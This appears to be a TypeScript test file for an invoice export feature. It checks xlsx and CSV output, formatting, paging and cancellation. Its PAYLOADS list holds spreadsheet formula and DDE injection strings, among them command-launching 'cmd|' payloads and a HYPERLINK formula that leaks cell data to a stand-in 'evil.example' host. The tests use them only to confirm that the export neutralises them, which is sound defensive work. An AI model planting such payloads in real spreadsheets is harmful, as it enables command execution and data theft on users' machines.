@@ -1,0 +1,275 @@
+import { expect } from '@open-wc/testing';
+import * as XLSX from '@e965/xlsx';
+import { InMemoryInvoiceAdapter } from '../../src/data/in-memory-adapter.js';
+import { defaultQuery } from '../../src/data/query.js';
+import { generateInvoices, seedInvoices } from '../../src/data/sample.js';
+import type { Invoice, InvoiceDataAdapter, InvoicePage } from '../../src/data/types.js';
+import { exportInvoices, type ExportColumn } from '../../src/export/index.js';
+
+const columns: ExportColumn[] = [
+  { id: 'billingMonth', header: 'Month', kind: 'month', value: (i) => i.billingMonth },
+  { id: 'amount', header: 'Amount', kind: 'money', value: (i) => i.amount },
+  { id: 'invoiceNumber', header: 'Invoice number', kind: 'text', value: (i) => i.invoiceNumber },
+  { id: 'customerName', header: 'Customer name', kind: 'text', value: (i) => i.customerName },
+  { id: 'status', header: 'Status', kind: 'status', value: (i) => i.status },
+  { id: 'dueDate', header: 'Due date', kind: 'date', value: (i) => i.dueDate },
+  { id: 'documents', header: 'Documents', kind: 'number', value: (i) => i.documents?.length ?? 0 },
+];
+
+const meta = { exportedAt: new Date('2026-11-25T09:00:00Z'), locale: 'en', lastRefreshed: '2026-11-24T21:00:00Z', filterDescription: 'Status: Open' };
+
+async function readWorkbook(blob: Blob): Promise<XLSX.WorkBook> {
+  return XLSX.read(new Uint8Array(await blob.arrayBuffer()), { type: 'array', cellFormula: true, cellNF: true, cellDates: false });
+}
+
+async function readCsv(blob: Blob): Promise<{ bom: boolean; text: string; lines: string[] }> {
+  const bytes = new Uint8Array(await blob.arrayBuffer());
+  const bom = bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf;
+  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).replace(/^\ufeff/, '');
+  return { bom, text, lines: text.split('\r\n') };
+}
+
+/** Every formula and DDE payload the export must keep as text. */
+const PAYLOADS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+  "=cmd|' /C calc'!A0",
+  "@cmd|'/C notepad'!'A1'",
+  '   =1+1',
+  '\u3000=SUM(1)',
+  "+cmd|' /C calc'!A0",
+  '-2+3+cmd|\' /C calc\'!A0',
+];
+
+function payloadRows(): Invoice[] {
+  const base = seedInvoices()[0] as Invoice;
+  return PAYLOADS.map((payload, i) => ({ ...base, id: `p${i}`, customerName: payload, invoiceNumber: payload }));
+}
+
+describe('exportInvoices (xlsx)', () => {
+  it('writes the localised headers, every row, numeric amounts with the currency format and months as dates', async () => {
+    const rows: Invoice[] = [
+      { ...(seedInvoices()[3] as Invoice), dueDate: '2020-11-30' },
+      { ...(generateInvoices(1, { seed: 3 })[0] as Invoice), amount: 1234.5, currency: 'SGD', billingMonth: '2021-02', status: 'disputed' },
+    ];
+    const result = await exportInvoices({ format: 'xlsx', columns, rows, meta });
+    expect(result.rowCount).to.equal(2);
+    expect(result.fileName).to.match(/^invoices-\d{4}-\d{2}-\d{2}-\d{4}\.xlsx$/);
+    expect(result.blob.type).to.equal('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+
+    const book = await readWorkbook(result.blob);
+    expect(book.SheetNames).to.deep.equal(['Invoices', 'Export details']);
+    const sheet = book.Sheets.Invoices as XLSX.WorkSheet;
+    const aoa = XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, raw: true });
+    expect(aoa[0]).to.deep.equal(['Month', 'Amount', 'Invoice number', 'Customer name', 'Status', 'Due date', 'Documents']);
+    expect(aoa.length).to.equal(3);
+
+    const jpy = sheet.B2 as XLSX.CellObject;
+    expect(jpy.t).to.equal('n');
+    expect(jpy.v).to.equal(45629);
+    expect(jpy.z).to.equal('"JPY" #,##0;-"JPY" #,##0');
+    expect(jpy.w).to.equal('JPY 45,629');
+    const sgd = sheet.B3 as XLSX.CellObject;
+    expect(sgd.v).to.equal(1234.5);
+    expect(sgd.z).to.equal('"SGD" #,##0.00;-"SGD" #,##0.00');
+    expect(sgd.w).to.equal('SGD 1,234.50');
+
+    const month = sheet.A2 as XLSX.CellObject;
+    expect(month.t).to.equal('n');
+    expect(month.z).to.equal('mmm yyyy');
+    expect(month.w).to.equal('Oct 2020');
+    const parsed = XLSX.SSF.parse_date_code(month.v as number);
+    expect([parsed.y, parsed.m, parsed.d]).to.deep.equal([2020, 10, 1]);
+    expect((sheet.A3 as XLSX.CellObject).w).to.equal('Feb 2021');
+    expect((sheet.F2 as XLSX.CellObject).w).to.equal('2020-11-30');
+
+    expect((sheet.C2 as XLSX.CellObject).t).to.equal('s');
+    expect((sheet.C2 as XLSX.CellObject).v).to.equal('2202008003470');
+    expect((sheet.E2 as XLSX.CellObject).v).to.equal('Open');
+    expect((sheet.E3 as XLSX.CellObject).v).to.equal('Disputed');
+    expect((sheet.G2 as XLSX.CellObject).v).to.equal(3);
+  });
+
+  it('records when, which filter and "Payment status as of" on a second sheet', async () => {
+    const result = await exportInvoices({ format: 'xlsx', columns, rows: seedInvoices(), meta });
+    const book = await readWorkbook(result.blob);
+    const details = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets['Export details'] as XLSX.WorkSheet, { header: 1 });
+    const byLabel = new Map(details.slice(1).map((row) => [row[0], row[1]]));
+    expect(byLabel.get('Exported at')).to.be.a('string').and.match(/2026/);
+    expect(byLabel.get('Filter')).to.equal('Status: Open');
+    expect(byLabel.get('Payment status as of')).to.match(/Nov 2[45], 2026/);
+    expect(byLabel.get('Rows')).to.equal(5);
+  });
+
+  it('keeps every formula payload as text, with a leading apostrophe, and writes no formula', async () => {
+    const result = await exportInvoices({ format: 'xlsx', columns, rows: payloadRows(), meta: { ...meta, filterDescription: '=HYPERLINK("x")' } });
+    const book = await readWorkbook(result.blob);
+    for (const name of book.SheetNames) {
+      const sheet = book.Sheets[name] as XLSX.WorkSheet;
+      for (const [ref, cell] of Object.entries(sheet)) {
+        if (ref.startsWith('!')) continue;
+        expect((cell as XLSX.CellObject).f, `${name}!${ref}`).to.equal(undefined);
+      }
+    }
+    const sheet = book.Sheets.Invoices as XLSX.WorkSheet;
+    PAYLOADS.forEach((payload, i) => {
+      for (const column of ['C', 'D']) {
+        const cell = sheet[`${column}${i + 2}`] as XLSX.CellObject;
+        expect(cell.t, payload).to.equal('s');
+        expect(cell.v, payload).to.equal(`'${payload}`);
+      }
+    });
+    const details = book.Sheets['Export details'] as XLSX.WorkSheet;
+    expect((details.B3 as XLSX.CellObject).v).to.equal('\'=HYPERLINK("x")');
+  });
+
+  it('exports only the given rows (the selection)', async () => {
+    const all = generateInvoices(50, { seed: 5 });
+    const selection = [all[3], all[17], all[41]] as Invoice[];
+    const result = await exportInvoices({ format: 'xlsx', columns, rows: selection, meta });
+    const aoa = XLSX.utils.sheet_to_json<unknown[]>((await readWorkbook(result.blob)).Sheets.Invoices as XLSX.WorkSheet, { header: 1 });
+    expect(result.rowCount).to.equal(3);
+    expect(aoa.slice(1).map((row) => row[2])).to.deep.equal(selection.map((i) => i.invoiceNumber));
+  });
+
+  it('keeps malformed values visible as text instead of failing', async () => {
+    const bad = { ...(seedInvoices()[0] as Invoice), amount: Number.NaN, billingMonth: '0020-10', status: 'weird' as Invoice['status'] };
+    const result = await exportInvoices({ format: 'xlsx', columns, rows: [bad], meta });
+    const sheet = (await readWorkbook(result.blob)).Sheets.Invoices as XLSX.WorkSheet;
+    expect((sheet.A2 as XLSX.CellObject).v).to.equal('0020-10');
+    expect((sheet.A2 as XLSX.CellObject).t).to.equal('s');
+    expect((sheet.B2 as XLSX.CellObject).v).to.equal('NaN');
+    expect((sheet.E2 as XLSX.CellObject).v).to.equal('weird');
+  });
+
+  it('uses month formats and sheet names for other locales', async () => {
+    const result = await exportInvoices({ format: 'xlsx', columns, rows: seedInvoices(), meta: { ...meta, locale: 'ja-JP', sheetName: '請求書', metaSheetName: 'エクスポート情報' } });
+    const book = await readWorkbook(result.blob);
+    expect(book.SheetNames).to.deep.equal(['請求書', 'エクスポート情報']);
+    expect(((book.Sheets['請求書'] as XLSX.WorkSheet).A2 as XLSX.CellObject).w).to.equal('2020-05');
+  });
+});
+
+describe('exportInvoices (csv)', () => {
+  it('writes UTF-8 with a BOM, CRLF, quoted fields, amounts with their decimals and months as YYYY-MM', async () => {
+    const rows: Invoice[] = [
+      { ...(seedInvoices()[3] as Invoice), customerName: 'Colt, "Japan"', billingEntityName: 'Colt テクノロジーサービス株式会社' },
+      { ...(seedInvoices()[0] as Invoice), amount: 1234.5, currency: 'SGD', customerName: '狮城金融科技有限公司' },
+    ];
+    const result = await exportInvoices({ format: 'csv', columns, rows, meta });
+    expect(result.fileName).to.match(/\.csv$/);
+    const { bom, lines } = await readCsv(result.blob);
+    expect(bom).to.equal(true);
+    expect(lines[0]).to.equal('Month,Amount,Invoice number,Customer name,Status,Due date,Documents');
+    expect(lines[1]).to.equal('2020-10,45629,2202008003470,"Colt, ""Japan""",Open,,3');
+    expect(lines[2]).to.equal('2020-05,1234.50,2202008003468,狮城金融科技有限公司,Not applicable,,1');
+    expect(lines.at(-1)).to.equal('');
+    expect(lines.length).to.equal(4);
+  });
+
+  it('parses back with the same rows, and every payload stayed text', async () => {
+    const result = await exportInvoices({ format: 'csv', columns, rows: payloadRows(), meta });
+    const text = new TextDecoder().decode(await result.blob.arrayBuffer());
+    const book = XLSX.read(text, { type: 'string', raw: true, cellFormula: true });
+    const sheet = book.Sheets[book.SheetNames[0] as string] as XLSX.WorkSheet;
+    const aoa = XLSX.utils.sheet_to_json<string[]>(sheet, { header: 1, raw: false });
+    expect(aoa.length).to.equal(PAYLOADS.length + 1);
+    PAYLOADS.forEach((payload, i) => {
+      expect(aoa[i + 1]?.[3], JSON.stringify(payload)).to.equal(`'${payload}`);
+      expect((sheet[`D${i + 2}`] as XLSX.CellObject).f).to.equal(undefined);
+    });
+  });
+});
+
+describe('exportInvoices (fetch all from the adapter)', () => {
+  const invoices = generateInvoices(2500, { seed: 11 });
+
+  it('fetches every matching row page by page, reporting progress', async () => {
+    const adapter = new InMemoryInvoiceAdapter(invoices, { lastRefreshed: '2026-11-24T21:00:00Z' });
+    const query = defaultQuery({ statuses: ['open'], sort: [{ field: 'amount', direction: 'desc' }] });
+    const expected = await adapter.listInvoices({ ...query, offset: 0, limit: 10_000 });
+    const progress: Array<[number, number, string | undefined]> = [];
+    const result = await exportInvoices({
+      format: 'xlsx',
+      columns,
+      adapter,
+      query,
+      pageSize: 300,
+      meta: { exportedAt: new Date(), locale: 'en' },
+      onProgress: (done, total, phase) => progress.push([done, total, phase]),
+    });
+    expect(result.rowCount).to.equal(expected.total);
+    const fetches = progress.filter((p) => p[2] === 'fetch');
+    expect(fetches.length).to.equal(Math.ceil(expected.total / 300));
+    expect(fetches.at(-1)).to.deep.equal([expected.total, expected.total, 'fetch']);
+    expect(progress.at(-1)).to.deep.equal([expected.total, expected.total, 'write']);
+    const book = await readWorkbook(result.blob);
+    const aoa = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets.Invoices as XLSX.WorkSheet, { header: 1 });
+    expect(aoa.length).to.equal(expected.total + 1);
+    expect(aoa.slice(1).map((r) => r[2])).to.deep.equal(expected.rows.map((r) => r.invoiceNumber));
+    const details = XLSX.utils.sheet_to_json<unknown[]>(book.Sheets['Export details'] as XLSX.WorkSheet, { header: 1 });
+    expect(details[3]?.[1]).to.match(/2026/);
+  });
+
+  it('stops when cancelled and rejects with an AbortError', async () => {
+    const inner = new InMemoryInvoiceAdapter(invoices);
+    const controller = new AbortController();
+    let calls = 0;
+    const adapter: InvoiceDataAdapter = {
+      ...inner,
+      countByStatus: inner.countByStatus.bind(inner),
+      listDocuments: inner.listDocuments.bind(inner),
+      fetchDocument: inner.fetchDocument.bind(inner),
+      listInvoices: async (query, options): Promise<InvoicePage> => {
+        calls++;
+        if (calls === 2) controller.abort();
+        return inner.listInvoices(query, options);
+      },
+    };
+    let error: unknown;
+    try {
+      await exportInvoices({ format: 'csv', columns, adapter, query: defaultQuery(), pageSize: 100, signal: controller.signal, meta });
+    } catch (e) {
+      error = e;
+    }
+    expect((error as Error)?.name).to.equal('AbortError');
+    expect(calls).to.equal(2);
+  });
+
+  it('stops while writing when cancelled', async () => {
+    const controller = new AbortController();
+    let error: unknown;
+    try {
+      await exportInvoices({
+        format: 'xlsx',
+        columns,
+        rows: generateInvoices(20_000, { seed: 2 }),
+        signal: controller.signal,
+        meta,
+        onProgress: (done) => {
+          if (done > 0) controller.abort();
+        },
+      });
+    } catch (e) {
+      error = e;
+    }
+    expect((error as Error)?.name).to.equal('AbortError');
+  });
+
+  it('passes an adapter failure on', async () => {
+    const adapter = new InMemoryInvoiceAdapter(invoices);
+    adapter.listInvoices = () => Promise.reject(Object.assign(new Error('down'), { code: 'server' }));
+    let error: unknown;
+    try {
+      await exportInvoices({ format: 'xlsx', columns, adapter, query: defaultQuery(), meta });
+    } catch (e) {
+      error = e;
+    }
+    expect((error as Error).message).to.equal('down');
+  });
+});
